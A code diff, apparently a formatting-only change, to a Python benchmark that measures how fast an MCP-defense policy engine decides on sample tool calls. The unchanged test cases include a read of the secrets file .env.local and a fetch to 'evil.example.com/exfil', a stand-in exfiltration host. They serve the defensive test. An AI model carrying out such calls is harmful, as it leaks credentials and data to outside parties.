@@ -19,11 +19,22 @@ CASES: list[tuple[str, str, str, dict[str, Any]]] = [
     ("read .env.local", "filesystem", "read_file", {"path": "/workspace/app/.env.local"}),
     ("exfil fetch", "filesystem", "fetch", {"url": "https://evil.example.com/exfil"}),
     ("github fetch", "github", "fetch", {"url": "https://api.github.com/repos/x/y"}),
-    ("edit with text", "filesystem", "edit_file",
-     {"path": "/workspace/src/app.py",
-      "edits": [{"oldText": "a = 1", "newText": "a = 2"}], "dryRun": False}),
-    ("shell pipeline", "shell", "run_command",
-     {"command": "grep -rn TODO src | head -20 > /tmp/todo.txt"}),
+    (
+        "edit with text",
+        "filesystem",
+        "edit_file",
+        {
+            "path": "/workspace/src/app.py",
+            "edits": [{"oldText": "a = 1", "newText": "a = 2"}],
+            "dryRun": False,
+        },
+    ),
+    (
+        "shell pipeline",
+        "shell",
+        "run_command",
+        {"command": "grep -rn TODO src | head -20 > /tmp/todo.txt"},
+    ),
 ]
 
 
@@ -40,8 +51,9 @@ def _measure(fn: Any, arg: Any, n: int) -> list[float]:
     return out
 
 
-def run_bench(table: DecisionTable, *, n: int = 20000, lines: int = 100_000,
-              progress: bool = False) -> dict[str, Any]:
+def run_bench(
+    table: DecisionTable, *, n: int = 20000, lines: int = 100_000, progress: bool = False
+) -> dict[str, Any]:
     from mcp_defense.cli.policy import available_cpus, eval_lines, eval_stream
 
     cases = []
@@ -55,16 +67,31 @@ def run_bench(table: DecisionTable, *, n: int = 20000, lines: int = 100_000,
         samples = _measure(table.decide, call, n)
         all_samples.extend(samples)
         q = statistics.quantiles(samples, n=20)
-        cases.append({"name": name, "decision": f"{d.action.value} {d.rule}".strip(),
-                      "median_us": statistics.median(samples), "p95_us": q[18]})
+        cases.append(
+            {
+                "name": name,
+                "decision": f"{d.action.value} {d.rule}".strip(),
+                "median_us": statistics.median(samples),
+                "p95_us": q[18],
+            }
+        )
 
     # `policy eval` end to end: JSON in, decide, JSON out (stdout replaced by a sink).
     rows = []
     for i in range(lines):
         _name, arch, tool, args = CASES[i % len(CASES)]
-        rows.append(json.dumps({"jsonrpc": "2.0", "id": i, "method": "tools/call",
-                                "params": {"name": tool, "arguments": args},
-                                "archetype": arch}).encode() + b"\n")
+        rows.append(
+            json.dumps(
+                {
+                    "jsonrpc": "2.0",
+                    "id": i,
+                    "method": "tools/call",
+                    "params": {"name": tool, "arguments": args},
+                    "archetype": arch,
+                }
+            ).encode()
+            + b"\n"
+        )
     sink = io.StringIO()
     t0 = time.perf_counter()
     eval_lines(table, iter(rows), "", sink.write)
